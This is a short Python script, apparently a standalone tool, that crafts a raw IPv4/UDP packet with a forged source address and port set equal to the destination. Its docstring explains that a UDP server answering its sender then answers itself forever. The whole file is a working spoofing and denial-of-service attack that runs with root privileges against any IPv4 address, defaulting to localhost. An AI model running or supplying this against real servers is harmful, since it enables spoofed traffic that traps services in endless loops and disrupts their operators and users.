"""Sends one UDP datagram to ADDRESS:PORT whose sender is forged to be
ADDRESS:PORT itself, through a raw socket (needs root): a server that
answers its sender would answer itself, for ever.

Usage: python3 spoof_udp.py PORT [ADDRESS]   (ADDRESS: IPv4, default 127.0.0.1)
"""
import socket
import struct
import sys

port = int(sys.argv[1])
address = sys.argv[2] if len(sys.argv) > 2 else "127.0.0.1"
payload = b"hello from yourself"
udp = struct.pack("!HHHH", port, port, 8 + len(payload), 0) + payload
forged = socket.inet_aton(address)
ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
                 forged, forged)
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
raw.sendto(ip + udp, (address, 0))
raw.close()
print("sent")
